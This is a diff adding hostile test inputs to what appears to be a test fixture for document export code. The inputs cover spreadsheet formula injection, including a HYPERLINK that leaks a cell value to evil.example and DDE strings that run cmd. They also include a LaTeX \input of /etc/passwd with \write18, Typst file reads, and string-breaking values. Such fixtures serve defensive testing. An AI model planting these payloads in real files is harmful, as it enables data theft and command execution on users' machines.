@@ -61,6 +61,15 @@ HOSTILE = {
     "empty": "",
     "spaces": "   \n  ",
     "table": "a | b\n--- | ---\n| x |",
+    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
+    "formula after space": " \t@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula in full width": "＝1+1",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "latex": r"\input{/etc/passwd} \write18{ls} }{ 100% & #1 a_b ~ x^2 $\alpha$ @misc{x,a={y}}",
+    "typst": '#read("/etc/passwd") #import "@preview/evil:1.0.0": * *b* _i_ $x$ <note-1> @note-1',
+    "end of a string in typst": '") + read("/etc/passwd") + ("',
+    "ris record": "title\r\nER  - \r\nTY  - BOOK\r\nTI  - planted",
+    "json": '"}], "planted": [{"a": "b"}',
 }
 
 KINDS: tuple[SectionKind, ...] = (
